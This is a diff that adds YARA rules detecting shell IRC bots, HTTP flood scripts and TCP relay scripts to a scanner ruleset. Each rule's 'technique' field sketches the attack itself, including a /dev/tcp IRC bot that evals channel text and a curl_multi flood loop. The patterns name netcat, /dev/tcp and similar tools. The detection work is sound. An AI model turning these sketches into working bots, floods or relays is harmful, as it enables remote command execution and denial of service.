@@ -1887,3 +1887,107 @@ rule bot_config_credential_exfil : bot
         filesize < 500KB and (not hs_doc_file or hs_script_ext) and
         ($g1 or $g2 or (any of ($g3, $g4, $g5) and $gw)) and any of ($c*) and any of ($x*)
 }
+
+/* A shell IRC bot: bash's /dev/tcp, ncat/nc/telnet or a fifo as the
+ * connection, the IRC registration and PING answer written by echo/printf,
+ * and what the channel sends run through eval / sh -c of a variable. A
+ * shell notifier posts its line and quits: nothing it reads is run. */
+rule bot_shell_irc_eval : bot
+{
+    meta:
+        description = "Shell IRC bot: /dev/tcp or ncat/fifo connection, IRC registration, and channel text run with eval or sh -c"
+        severity = "high"
+        technique = "exec 3<>/dev/tcp/irc/6667; echo NICK x >&3; while read l <&3; do case $l in *PRIVMSG*'!x '*) eval \"${l#*!x }\" ;; esac; done"
+        seen = "none"
+    strings:
+        $t1 = /\/dev\/tcp\/[^\/\s]{1,80}\/\d{2,5}/
+        $t2 = /\b(ncat|nc|netcat|telnet|openssl\s{1,4}s_client)\s[^\n|;]{0,80}\b\d{2,5}\b/
+        $t3 = "mkfifo" ascii
+        $n = "NICK " ascii
+        $p1 = "PRIVMSG" ascii
+        $p2 = "PONG" ascii
+        $x1 = /\beval\s{1,4}["']?\$\{?[A-Za-z_]/
+        $x2 = /\b(sh|bash|dash|ash)\s{1,4}-c\s{1,4}["']?\$\{?[A-Za-z_]/
+        $x4 = /\$\(\s{0,2}\$\{?[A-Za-z_]\w{0,30}\}?\s{0,2}\)/
+    condition:
+        filesize < 200KB and not hs_doc_file and (hs_lang_shell or hs_shebang) and
+        any of ($t*) and $n and $p1 and $p2 and any of ($x*)
+}
+
+/* An HTTP flood: requests sent as fast as threads (or curl_multi, or forks)
+ * allow, in a loop that runs to a deadline, with a random cache-busting
+ * query so that every request reaches the origin. From a web page with the
+ * target in the request it is a DDoS panel's agent (high); from the command
+ * line it is also what a load test does (bot_http_flood_cli, medium). */
+rule bot_http_flood_request : bot
+{
+    meta:
+        description = "HTTP flood run from a web request: target and duration from the request, curl_multi/fork/threads until a deadline, random cache-buster"
+        severity = "high"
+        technique = "$url = $_GET['u']; $end = time() + $_GET['t']; while (time() < $end) { curl_multi of $url . '?' . mt_rand() x50 }"
+        seen = "none"
+    strings:
+        $d1 = /while\s{0,4}\(\s{0,4}(time|microtime)\s{0,4}\([^)]{0,10}\)\s{0,4}<=?\s{0,4}\$\w{1,30}/
+        $d2 = /while\s{0,4}\(\s{0,4}\$\w{1,30}\s{0,4}>=?\s{0,4}(time|microtime)\s{0,4}\(/
+        $r1 = /['"]\?['"]\s{0,4}\.\s{0,4}(mt_rand|rand|uniqid|random_int|microtime)\s{0,4}\(/
+        $r2 = /['"]\?\w{0,12}=?['"]\s{0,4}\.\s{0,4}(mt_rand|rand|uniqid|random_int|microtime)\s{0,4}\(/
+        $c1 = "curl_multi_exec" ascii
+        $c2 = "pcntl_fork" ascii
+        $c3 = /\bfsockopen\s{0,4}\(/
+        $q1 = "$_GET" ascii
+        $q2 = "$_POST" ascii
+        $q3 = "$_REQUEST" ascii
+    condition:
+        filesize < 300KB and not hs_doc_file and any of ($d*) and any of ($r*) and any of ($c*) and any of ($q*)
+}
+
+rule bot_http_flood_cli : bot
+{
+    meta:
+        description = "HTTP flood script: threads hammering a target from argv with random cache-busters until a deadline (a load test looks the same)"
+        severity = "medium"
+        technique = "end = time.time() + secs; def hammer(): while time.time() < end: urlopen(target + '?' + str(random.randint(..))); threads x N"
+        seen = "none"
+    strings:
+        $d1 = /while\s{1,4}time\.time\s{0,2}\(\s{0,2}\)\s{0,4}<\s{0,4}\w{1,30}/
+        $d2 = /while\s{0,4}\(\s{0,4}time\s{0,4}\(\s{0,4}\)?\s{0,4}<=?\s{0,4}\$\w{1,30}/
+        $r1 = /['"]\?['"]\s{0,4}\+\s{0,4}str\s{0,2}\(\s{0,2}random\.(randint|random|getrandbits)\s{0,2}\(/
+        $r2 = /['"]\?['"]\s{0,4}\.\s{0,4}int\s{0,2}\(\s{0,2}rand\s{0,2}\(/
+        $h1 = /urllib\.request\.urlopen|requests\.(get|post|head)\s{0,2}\(|http\.client\.HTTPS?Connection|LWP::UserAgent|HTTP::Tiny/
+        $t1 = "threading.Thread" ascii
+        $t2 = /\bfork\s{0,2}\(/
+        $t3 = "ThreadPoolExecutor" ascii
+        $t4 = "threads->create" ascii
+        $a1 = /\bsys\.argv\s{0,2}\[/
+        $a2 = "$ARGV[" ascii
+    condition:
+        filesize < 200KB and not hs_doc_file and (hs_lang_python or hs_lang_perl or hs_shebang) and
+        any of ($d*) and any of ($r*) and $h1 and any of ($t*) and any of ($a*)
+}
+
+/* A TCP relay: listens, and for every connection opens one to a fixed far
+ * end and copies bytes both ways (select or two threads). Dropped in /tmp
+ * it carries a spammer's or an attacker's traffic through the host. Medium:
+ * port forwarders are also admin tools. */
+rule bot_tcp_relay_script : bot
+{
+    meta:
+        description = "TCP relay script: accepts connections and forwards each to a fixed far end (a proxy hop through the host)"
+        severity = "medium"
+        technique = "srv.bind(LISTEN); srv.listen(); c = srv.accept(); f = socket.create_connection(FAR); select loop copying recv() of one into sendall() of the other"
+        seen = "none"
+    strings:
+        $l1 = /\.bind\s{0,2}\(/
+        $l2 = /\.listen\s{0,2}\(/
+        $a = /\.accept\s{0,2}\(\s{0,2}\)/
+        $o1 = /socket\.create_connection\s{0,2}\(/
+        $o2 = /\.connect\s{0,2}\(\s{0,2}\(?\s{0,2}['"]?\w/
+        $s1 = /select\.select\s{0,2}\(/
+        $s2 = /threading\.Thread\s{0,2}\(\s{0,2}target\s{0,2}=\s{0,2}\w{1,30}\s{0,2},\s{0,2}args\s{0,2}=\s{0,2}\(\s{0,2}\w{1,30}\s{0,2},\s{0,2}\w{1,30}/
+        $c = /\.sendall\s{0,2}\(\s{0,2}\w{1,30}\s{0,2}\)/
+        $d = /\.recv\s{0,2}\(\s{0,2}\d{3,6}\s{0,2}\)/
+        $h1 = /\bos\.setsid\s{0,2}\(|\bnohup\b|\bdaemon\s{0,2}\(|\/tmp\/|\/dev\/shm\//
+    condition:
+        filesize < 100KB and not hs_doc_file and hs_lang_python and all of ($l*) and $a and any of ($o*) and
+        any of ($s*) and $c and $d and $h1
+}
